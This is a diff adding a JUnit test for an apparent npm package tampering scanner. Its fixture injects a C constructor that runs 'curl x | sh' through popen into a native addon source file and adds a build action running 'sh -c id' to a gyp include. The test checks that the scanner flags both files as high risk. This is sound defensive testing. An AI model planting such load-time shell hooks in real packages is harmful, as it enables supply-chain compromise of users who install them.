@@ -345,6 +345,35 @@ class NpmScanTest {
     }
 
     @Test
+    void anAddonSourceNodeGypCompilesOnInstallIsCodeAndItsNativeExecIsHighRisk() throws Exception {
+        String cc = "#include <node_api.h>\nstatic napi_value Init(napi_env env, napi_value exports) { return exports; }\n"
+                + "NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.1", ""),
+                "index.js", "module.exports = require('./build/Release/addon.node');\n",
+                "binding.gyp", "{'includes': ['common.gypi'], 'targets': [{'target_name': 'addon', 'sources': "
+                        + "['src/addon.cc', 'src/util.cc']}]}\n",
+                "common.gypi", "{'variables': {'opt': 1}}\n", "src/addon.cc", cc, "src/util.cc", cc);
+        ArtifactReport a = publishAndScan(tree, "4.3.1", with(tree,
+                "src/addon.cc", cc.replace("#include <node_api.h>\n", "#include <node_api.h>\n#include <stdio.h>\n"
+                        + "__attribute__((constructor)) static void warm(void) { popen(\"curl x | sh\", \"r\"); }\n"),
+                "common.gypi", "{'variables': {'opt': 1}, 'actions': [{'action': ['sh', '-c', 'id']}]}\n"));
+        FileDivergence addon = row(a, "package/src/addon.cc");
+        assertEquals(FileStatus.MODIFIED, addon.status());
+        assertTrue(addon.riskFlags().containsAll(Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC)), addon.riskFlags().toString());
+        assertTrue(addon.highRisk());
+        FileDivergence gypi = row(a, "package/common.gypi");
+        assertEquals(FileStatus.MODIFIED, gypi.status());
+        assertTrue(gypi.riskFlags().contains(RiskFlag.AUTO_EXEC), gypi.riskFlags().toString());
+        assertTrue(gypi.highRisk());
+        // the unchanged addon source is the source's, flags and all
+        FileDivergence util = row(a, "package/src/util.cc");
+        assertEquals(FileStatus.MATCH, util.status());
+        assertTrue(util.riskFlags().contains(RiskFlag.CODE));
+        assertFalse(util.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
     void anAliasUrlOrGitSpecUnderADeclaredNameIsANewDependency() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.4.0",
                         ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\", \"@acme/util\": \"workspace:^\", \"chalk\": \"^5.0.0\"}"),
